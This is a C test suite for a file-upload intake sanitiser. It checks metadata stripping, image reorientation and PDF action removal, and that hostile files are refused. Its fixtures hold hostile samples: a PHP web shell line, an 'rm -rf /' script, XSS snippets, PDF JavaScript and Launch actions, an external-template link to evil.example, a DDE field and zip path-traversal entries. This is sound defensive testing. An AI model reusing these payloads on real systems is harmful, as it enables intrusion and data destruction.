/*
 * Intake: good files come through clean, hostile ones are refused, each by the
 * real worker in its sandbox.
 */
#include "base/conf.h"
#include "base/err.h"
#include "base/str.h"
#include "check.h"
#include "files/intake.h"
#include "make.h"

#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <jpeglib.h>

struct bench {
	struct arena *a;
	struct conf *conf;
	struct intake *intake;
	char *folder;
};

static struct bench
bench_with(const char *clamd)
{
	struct bench b = { .a = arena_new((size_t)800 << 20) };

	b.folder = arena_strdup(b.a, "/tmp/waymark-files-XXXXXX");
	if (mkdtemp(b.folder) == NULL)
		fail(FAULT_BUG, "folder");
	b.conf = conf_load(b.a, NULL);
	b.conf->parser = PARSER;
	b.conf->data_dir = b.folder;
	b.conf->clamd_socket = clamd == NULL ? "" : arena_printf(b.a, "%s/%s", b.folder, clamd);
	b.intake = intake_open(b.a, b.conf);
	return b;
}

static struct bench
bench(void)
{
	return bench_with(NULL);
}

static void
end(struct bench *b)
{
	char *command = arena_printf(b->a, "rm -rf -- %s", b->folder);

	if (system(command) != 0)
		CHECK(false);
	arena_free(b->a);
}

static struct intake_result
take(struct bench *b, const struct buf *bytes, const char *name)
{
	int fd = make_fd(bytes);
	struct intake_result r = intake_file(b->intake, b->a, fd, name);

	close(fd);
	return r;
}

static struct buf *
stored(struct bench *b, const struct intake_result *r)
{
	int64_t size = 0;
	int fd = store_get(intake_store(b->intake), &r->hash, &size);
	struct buf *bytes;

	CHECK(fd >= 0);
	bytes = make_read(b->a, fd);
	CHECK_INT((int64_t)bytes->n, size);
	close(fd);
	return bytes;
}

static bool
holds(const struct buf *b, const char *part)
{
	return memmem(b->p, b->n, part, strlen(part)) != NULL;
}

/* ---- good files ---- */

struct pixel {
	int width, height;
	unsigned char r, g, b;	  /* near the top left corner */
	unsigned char r2, g2, b2; /* near the top right corner */
};

static struct pixel
look_at(const struct buf *jpeg)
{
	struct jpeg_decompress_struct d;
	struct jpeg_error_mgr errors;
	unsigned char *row = malloc(3 * 65536), *right;
	struct pixel p = { 0 };

	d.err = jpeg_std_error(&errors);
	jpeg_create_decompress(&d);
	jpeg_mem_src(&d, (const unsigned char *)jpeg->p, jpeg->n);
	jpeg_read_header(&d, TRUE);
	jpeg_start_decompress(&d);
	while (d.output_scanline < 3)
		jpeg_read_scanlines(&d, &row, 1);
	right = row + 3 * (d.output_width - 3);
	p = (struct pixel){ (int)d.output_width, (int)d.output_height, row[6], row[7], row[8],
		right[0], right[1], right[2] };
	jpeg_destroy_decompress(&d);
	free(row);
	return p;
}

static void
a_photo_loses_its_place(void)
{
	struct bench b = bench();
	struct buf *photo = make_jpeg(b.a, 60, 40, 1, true);
	struct intake_result r = take(&b, photo, "IMG_0042.JPG");
	struct buf *kept;

	CHECK(holds(photo, "51.5033N") && holds(photo, "Exif"));
	CHECK_INT(r.verdict, FILE_OK);
	CHECK_STR(r.type, "image/jpeg");
	CHECK_STR(r.name, "IMG_0042.jpg");
	kept = stored(&b, &r);
	CHECK(!holds(kept, "51.5033N") && !holds(kept, "Exif"));
	CHECK_INT(look_at(kept).width, 60);
	CHECK_INT(look_at(kept).height, 40);
	end(&b);
}

static bool
is_colour(char colour, unsigned char r, unsigned char g, unsigned char b)
{
	int red = colour != 'b' ? 255 : 0, green = colour == 'w' ? 255 : 0;
	int blue = colour == 'r' ? 0 : 255;

	return abs(r - red) < 40 && abs(g - green) < 40 && abs(b - blue) < 40;
}

/* The photo's top is red; its lower half is blue at the left and white at the right. */
static void
a_photo_is_turned_upright(void)
{
	static const struct {
		int width, height;
		char left, right; /* colours at the top */
	} upright[9] = {
		[1] = { 60, 40, 'r', 'r' },
		[2] = { 60, 40, 'r', 'r' },
		[3] = { 60, 40, 'w', 'b' },
		[4] = { 60, 40, 'b', 'w' },
		[5] = { 40, 60, 'r', 'b' },
		[6] = { 40, 60, 'b', 'r' },
		[7] = { 40, 60, 'w', 'r' },
		[8] = { 40, 60, 'r', 'w' },
	};
	struct bench b = bench();

	for (int i = 1; i <= 8; i++) {
		struct intake_result r = take(&b, make_jpeg(b.a, 60, 40, i, false), "a.jpg");
		struct pixel p = look_at(stored(&b, &r));

		CHECK_INT(p.width, upright[i].width);
		CHECK_INT(p.height, upright[i].height);
		CHECK(is_colour(upright[i].left, p.r, p.g, p.b));
		CHECK(is_colour(upright[i].right, p.r2, p.g2, p.b2));
	}
	end(&b);
}

static void
a_png_keeps_its_pixels_only(void)
{
	struct bench b = bench();
	struct buf *plain = make_png(b.a, 300, 200, false);
	struct buf *with_text = make_png(b.a, 300, 200, true);
	struct intake_result first = take(&b, plain, "scan.png");
	struct intake_result second = take(&b, with_text, "scan.png");

	CHECK(holds(with_text, "51.5033N"));
	CHECK_INT(first.verdict, FILE_OK);
	CHECK_INT(second.verdict, FILE_OK);
	/* The same pixels, interlaced and with a comment, become the same bytes. */
	CHECK(hash_eq(&first.hash, &second.hash));
	end(&b);
}

static void
a_heic_becomes_a_jpeg(void)
{
	struct bench b = bench();
	struct buf *heic = make_heic(b.a, 256, 128);
	struct intake_result r;
	struct pixel p;

	if (heic == NULL) {
		puts("# this machine's libheif has no encoder");
		end(&b);
		return;
	}
	r = take(&b, heic, "IMG_1.HEIC");
	CHECK_INT(r.verdict, FILE_OK);
	CHECK_STR(r.name, "IMG_1.jpg");
	CHECK_STR(r.type, "image/jpeg");
	if (r.verdict == FILE_OK) {
		p = look_at(stored(&b, &r));
		CHECK_INT(p.width, 256);
		CHECK(p.r > 240);
	}
	end(&b);
}

static void
documents_come_through(void)
{
	struct bench b = bench();
	struct intake_result r = take(&b, make_pdf(b.a, "", ""), "report.pdf");

	CHECK_INT(r.verdict, FILE_OK);
	CHECK_STR(r.type, "application/pdf");
	CHECK(holds(stored(&b, &r), "/MediaBox"));
	r = take(&b, make_docx(b.a, NULL), "letter.docx");
	CHECK_INT(r.verdict, FILE_OK);
	r = take(&b, make_odt(b.a), "letter.odt");
	CHECK_INT(r.verdict, FILE_OK);
	r = take(&b, make_text(b.a, "\xef\xbb\xbfZoë's notes\r\n"), "notes.txt");
	CHECK_INT(r.verdict, FILE_OK);
	CHECK_STR(stored(&b, &r)->p, "Zoë's notes\r\n");
	end(&b);
}

static void
a_photo_over_ten_megabytes_comes_through(void)
{
	struct bench b = bench();
	struct buf *photo = make_jpeg(b.a, 9000, 7000, 6, true);
	const char *tail = arena_alloc(b.a, 1 << 20);
	struct intake_result r;
	struct pixel p;

	/* A tail makes it large: what counts is that so many bytes are read and thrown away. */
	while (photo->n < 12 << 20)
		buf_add(photo, tail, 1 << 20);
	r = take(&b, photo, "big.jpg");
	CHECK_INT(r.verdict, FILE_OK);
	p = look_at(stored(&b, &r));
	CHECK_INT(p.width, 3500); /* 63 million pixels are halved, and turned */
	CHECK_INT(p.height, 4500);
	end(&b);
}

struct sender {
	struct bench *bench;
	struct buf *photo;
	pthread_t thread;
	enum file_verdict verdict;
};

static void *
send_photo(void *arg)
{
	struct sender *s = arg;
	struct arena *a = arena_new(0);
	int fd = make_fd(s->photo);

	s->verdict = intake_file(s->bench->intake, a, fd, "a.jpg").verdict;
	close(fd);
	arena_free(a);
	return NULL;
}

static void
many_at_once_come_through(void)
{
	struct bench b = bench();
	struct sender senders[12];

	for (int i = 0; i < 12; i++) {
		senders[i] = (struct sender){ .bench = &b,
			.photo = make_jpeg(b.a, 1500, 1000 + i, 6, true),
			.verdict = FILE_NOT_WORKING };
		CHECK_INT(pthread_create(&senders[i].thread, NULL, send_photo, &senders[i]), 0);
	}
	for (int i = 0; i < 12; i++) {
		pthread_join(senders[i].thread, NULL);
		CHECK_INT(senders[i].verdict, FILE_OK);
	}
	end(&b);
}

/* ---- PDFs that act ---- */

static void
what_acts_in_a_pdf_is_taken_out(void)
{
	static const struct {
		const char *extra, *objects, *gone;
	} cases[] = {
		{ "/OpenAction 4 0 R", "4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n",
		    "app.alert" },
		{ "/OpenAction << /S /Launch /F (calc.exe) >>", "", "calc.exe" },
		{ "/Names << /JavaScript << /Names [(a) 4 0 R] >> >>",
		    "4 0 obj\n<< /S /JavaScript /JS (evil) >>\nendobj\n", "evil" },
		{ "/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
		    "4 0 obj\n<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>\nendobj\n"
		    "5 0 obj\n<< /Length 6 >>\nstream\nMZevil\nendstream\nendobj\n",
		    "MZevil" },
		{ "/AA << /WC << /S /JavaScript /JS (evil) >> >>", "", "evil" },
		{ "/AcroForm << /XFA 4 0 R /Fields [] >>",
		    "4 0 obj\n<< /Length 9 >>\nstream\n<xdp:evil\nendstream\nendobj\n", "evil" },
		/* An action that only a name escape hides, reached through an outline. */
		{ "/Outlines << /First << /A << /S /#4aavaScript /JS (evil) >> >> >>", "", "evil" },
		{ "/Outlines << /First << /A << /S /GoToR /F (\\\\\\\\host\\\\share) >> >> >>", "",
		    "share" },
		{ "/Outlines << /First << /A << /S /SubmitForm /F (https://evil.example) >> >> >>",
		    "", "evil.example" },
		/* Behind a harmless first action. */
		{ "/Outlines << /First << /A << /S /URI /URI (https://ok.example) /Next << /S "
		  "/JavaScript /JS (evil) >> >> >> >>",
		    "", "evil" },
	};
	struct bench b = bench();

	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		struct buf *pdf = make_pdf(b.a, cases[i].extra, cases[i].objects);
		struct intake_result r = take(&b, pdf, "a.pdf");

		CHECK(holds(pdf, cases[i].gone));
		CHECK_INT(r.verdict, FILE_OK);
		if (r.verdict == FILE_OK && holds(stored(&b, &r), cases[i].gone)) {
			printf("# case %zu still holds %s\n", i, cases[i].gone);
			CHECK(false);
		}
	}
	end(&b);
}

static void
a_font_named_like_an_action_stays(void)
{
	struct bench b = bench();
	struct buf *pdf = make_pdf(b.a, "/Fonts << /AA << /Type /Font /BaseFont /Kept >> >>", "");
	struct intake_result r = take(&b, pdf, "a.pdf");

	CHECK_INT(r.verdict, FILE_OK);
	CHECK(holds(stored(&b, &r), "/Kept"));
	end(&b);
}

/* ---- hostile files ---- */

static void
hostile_files_are_refused(void)
{
	struct bench b = bench();
	struct arena *a = b.a;
	struct buf *jpeg = make_jpeg(a, 60, 40, 1, false), *png = make_png(a, 60, 40, false);
	struct buf *docx = make_docx(a, NULL), *pdf = make_pdf(a, "", "");
	struct buf *html = make_text(a, "<html><script>alert(1)</script></html>");
	struct buf *cut_jpeg = make_joined(a, jpeg, make_text(a, ""));
	struct buf *cut_pdf = make_joined(a, pdf, make_text(a, ""));
	struct buf *tail_cut_pdf = make_joined(a, pdf, make_text(a, ""));
	struct buf *bad_zip = make_joined(a, docx, make_text(a, ""));
	const struct {
		const struct buf *bytes;
		const char *name;
		enum file_verdict verdict;
	} cases[] = {
		{ html, "photo.jpg", FILE_NOT_TAKEN },
		{ html, "notes.txt", FILE_NOT_TAKEN },
		{ make_joined(a, html, jpeg), "photo.jpg", FILE_NOT_TAKEN },
		{ make_text(a, "\n\n <svg onload=alert(1)>"), "photo.png", FILE_NOT_TAKEN },
		{ make_text(a, "<?xml version=\"1.0\"?><svg/>"), "drawing.svg", FILE_NOT_TAKEN },
		{ make_text(a, "<?php system($_GET[0]);"), "a.txt", FILE_NOT_TAKEN },
		{ make_text(a, "GIF89a\1\0;<script>"), "a.jpg", FILE_NOT_TAKEN },
		{ make_text(a, "MZ\x90"), "a.pdf", FILE_NOT_TAKEN },
		{ make_text(a, "\x7f"
			       "ELF"),
		    "a.txt", FILE_NOT_TAKEN },
		{ make_text(a, "#!/bin/sh\nrm -rf /\n"), "a.txt", FILE_NOT_TAKEN },
		{ make_text(a, "{\\rtf1 hello}"), "a.docx", FILE_NOT_TAKEN },
		{ make_text(a, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), "a.doc", FILE_NOT_TAKEN },
		{ make_text(a, "\x80\x81\x82"), "a.txt", FILE_NOT_TAKEN },
		{ make_text(a, "a\x1b[2Jb"), "a.txt", FILE_DAMAGED },
		{ make_zip(a, (struct make_entry[]){ { "a.txt", "a", 0 }, { 0 } }), "a.zip",
		    FILE_NOT_TAKEN },
		{ png, "photo.jpg", FILE_NAME_DISAGREES },
		{ jpeg, "photo.html", FILE_NAME_DISAGREES },
		{ jpeg, "photo", FILE_NAME_DISAGREES },
		{ pdf, "report.docx", FILE_NAME_DISAGREES },
		{ make_text(a, ""), "a.txt", FILE_EMPTY },
		{ cut_jpeg, "a.jpg", FILE_DAMAGED },
		{ cut_pdf, "a.pdf", FILE_DAMAGED },
		{ tail_cut_pdf, "a.pdf", FILE_DAMAGED },
		{ bad_zip, "a.docx", FILE_DAMAGED },
		{ make_text(a, "\xff\xd8\xff\xe0 nothing else"), "a.jpg", FILE_DAMAGED },
		{ make_text(a, "%PDF-1.7\n%%EOF"), "a.pdf", FILE_DAMAGED },
		{ make_png_bomb(a, 29999, 29999), "a.png", FILE_HUGE },
		{ make_png_bomb(a, 60000, 10), "a.png", FILE_DAMAGED },
		/* a Java archive behind a document, and a script behind it */
		{ make_joined(
		      a, docx, make_zip(a, (struct make_entry[]){ { "A.class", "a", 0 }, { 0 } })),
		    "a.docx", FILE_DAMAGED },
		{ make_joined(a, docx, html), "a.docx", FILE_DAMAGED },
		{ make_docx(a, (struct make_entry[]){ { "word/media/a", NULL, 150 << 20 }, { 0 } }),
		    "a.docx", FILE_SWELLS },
		{ make_docx(a, (struct make_entry[]){ { "word/vbaProject.bin", "x", 0 }, { 0 } }),
		    "a.docx", FILE_MACROS },
		{ make_docx(a,
		      (struct make_entry[]){
			  { "word/_rels/settings.xml.rels",
			      "<Relationship Type=\"x/attachedTemplate\" TargetMode=\"External\" "
			      "Target=\"https://evil.example/t.dotm\"/>",
			      0 },
			  { 0 } }),
		    "a.docx", FILE_MACROS },
		{ make_docx(a,
		      (struct make_entry[]){
			  { "word/styles.xml", "<!DOCTYPE a [<!ENTITY b \"bbbb\">]>", 0 }, { 0 } }),
		    "a.docx", FILE_MACROS },
		{ make_docx(a,
		      (struct make_entry[]){
			  { "word/footer.xml", "<w:instrText>DDEAUTO cmd</w:instrText>", 0 },
			  { 0 } }),
		    "a.docx", FILE_MACROS },
		{ make_docx(a, (struct make_entry[]){ { "../../etc/cron.d/a", "x", 0 }, { 0 } }),
		    "a.docx", FILE_DAMAGED },
		{ make_docx(a, (struct make_entry[]){ { "/etc/passwd", "x", 0 }, { 0 } }), "a.docx",
		    FILE_DAMAGED },
		{ make_locked_pdf(a), "a.pdf", FILE_LOCKED },
	};

	cut_jpeg->n -= cut_jpeg->n / 3;
	cut_pdf->n -= 60;
	tail_cut_pdf->n -= 20;
	memset(memmem(bad_zip->p, bad_zip->n, "word/document.xml", 17) + 18, 'x', 8);
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		struct intake_result r = take(&b, cases[i].bytes, cases[i].name);

		if (r.verdict != cases[i].verdict) {
			printf("# hostile file %zu (%s): verdict %d, not %d\n", i, cases[i].name,
			    (int)r.verdict, (int)cases[i].verdict);
			CHECK(false);
		}
		CHECK(r.verdict == FILE_OK || r.message != NULL);
	}
	end(&b);
}

/* A JPEG with a zip archive behind it opens as both; what is stored is only the picture. */
static void
a_gifar_becomes_a_plain_picture(void)
{
	struct bench b = bench();
	struct buf *jar = make_zip(b.a, (struct make_entry[]){ { "Evil.class", "x", 0 }, { 0 } });
	struct buf *both = make_joined(b.a, make_jpeg(b.a, 60, 40, 1, false), jar);
	struct intake_result r = take(&b, both, "photo.jpg");

	CHECK_INT(r.verdict, FILE_OK);
	CHECK(!holds(stored(&b, &r), "Evil.class"));
	end(&b);
}

static void
too_big_is_said_before_reading(void)
{
	struct bench b = bench();
	struct intake_result r;
	int fd;

	b.conf->upload_limit_mb = 1;
	b.intake = intake_open(b.a, b.conf);
	fd = make_fd(make_text(b.a, "x"));
	CHECK_INT(ftruncate(fd, (1 << 20) + 1), 0);
	r = intake_file(b.intake, b.a, fd, "a.txt");
	CHECK_INT(r.verdict, FILE_TOO_BIG);
	close(fd);
	end(&b);
}

static void
messages_are_for_people(void)
{
	CHECK_STR(file_message(FILE_NOT_TAKEN, FILE_ZIP),
	    "This file is a ZIP. Send a photo, PDF or Word document.");
	for (int v = FILE_EMPTY; v < FILE_VERDICT__MAX; v++)
		CHECK(v == FILE_NOT_TAKEN || file_message((enum file_verdict)v, FILE_JPEG) != NULL);
	for (int k = 0; k < FILE_KIND__MAX; k++)
		CHECK(file_kind_taken((enum file_kind)k) ||
		      file_message(FILE_NOT_TAKEN, (enum file_kind)k) != NULL);
}

static void
all_layers_hold_here(void)
{
	struct bench b = bench();

	CHECK_STR(files_sandbox_report(b.intake, b.a), "limits, landlock, seccomp");
	end(&b);
}

/* ---- the virus scanner ---- */

/* Answers each scan with these words, and keeps what it was sent. */
static pid_t
fake_clamd(const char *path, const char *words, const char *keep)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	pid_t pid;

	snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
	if (bind(s, (struct sockaddr *)&address, sizeof address) != 0 || listen(s, 5) != 0)
		fail(FAULT_BUG, "fake clamd");
	pid = fork();
	if (pid == 0) {
		FILE *kept = fopen(keep, "we");
		int c = accept(s, NULL, NULL);
		char bytes[4096];
		ssize_t n;

		for (size_t tail = 0; tail < 4 && (n = recv(c, bytes, sizeof bytes, 0)) > 0;) {
			fwrite(bytes, 1, (size_t)n, kept);
			for (ssize_t i = 0; i < n; i++)
				tail = bytes[i] == '\0' ? tail + 1 : 0;
		}
		fclose(kept);
		send(c, words, strlen(words) + 1, MSG_NOSIGNAL);
		_exit(0);
	}
	close(s);
	return pid;
}

static struct intake_result
scan(const char *words, char *ret_sent, size_t size)
{
	struct bench b = bench_with("clamd.sock");
	char *keep = arena_printf(b.a, "%s/sent", b.folder);
	pid_t pid = words == NULL ? 0 : fake_clamd(b.conf->clamd_socket, words, keep);
	struct intake_result r = take(&b, make_text(b.a, "hello clamd"), "a.txt");
	FILE *f;

	if (pid != 0)
		waitpid(pid, NULL, 0);
	memset(ret_sent, 0, size);
	if ((f = fopen(keep, "re")) != NULL) {
		CHECK(fread(ret_sent, 1, size - 1, f) > 0);
		fclose(f);
	}
	end(&b);
	return r;
}

static void
the_scanner_is_asked(void)
{
	char sent[100];
	struct intake_result r = scan("stream: OK", sent, sizeof sent);

	CHECK_INT(r.verdict, FILE_OK);
	CHECK(!r.quarantined);
	CHECK(memcmp(sent, "zINSTREAM\0\0\0\0\013hello clamd\0\0\0\0", 29) == 0);
	r = scan("stream: Eicar-Test-Signature FOUND", sent, sizeof sent);
	CHECK_INT(r.verdict, FILE_INFECTED);
	r = scan("INSTREAM size limit exceeded. ERROR", sent, sizeof sent);
	CHECK_INT(r.verdict, FILE_OK);
	CHECK(r.quarantined);
	r = scan(NULL, sent, sizeof sent);
	CHECK_INT(r.verdict, FILE_OK);
	CHECK(r.quarantined);
}

int
main(void)
{
	return check_run((struct check_case[]){ CHECK_CASE(a_photo_loses_its_place),
	    CHECK_CASE(a_photo_is_turned_upright), CHECK_CASE(a_png_keeps_its_pixels_only),
	    CHECK_CASE(a_heic_becomes_a_jpeg), CHECK_CASE(documents_come_through),
	    CHECK_CASE(a_photo_over_ten_megabytes_comes_through),
	    CHECK_CASE(many_at_once_come_through), CHECK_CASE(what_acts_in_a_pdf_is_taken_out),
	    CHECK_CASE(a_font_named_like_an_action_stays), CHECK_CASE(hostile_files_are_refused),
	    CHECK_CASE(a_gifar_becomes_a_plain_picture), CHECK_CASE(too_big_is_said_before_reading),
	    CHECK_CASE(messages_are_for_people), CHECK_CASE(all_layers_hold_here),
	    CHECK_CASE(the_scanner_is_asked), { 0 } });
}
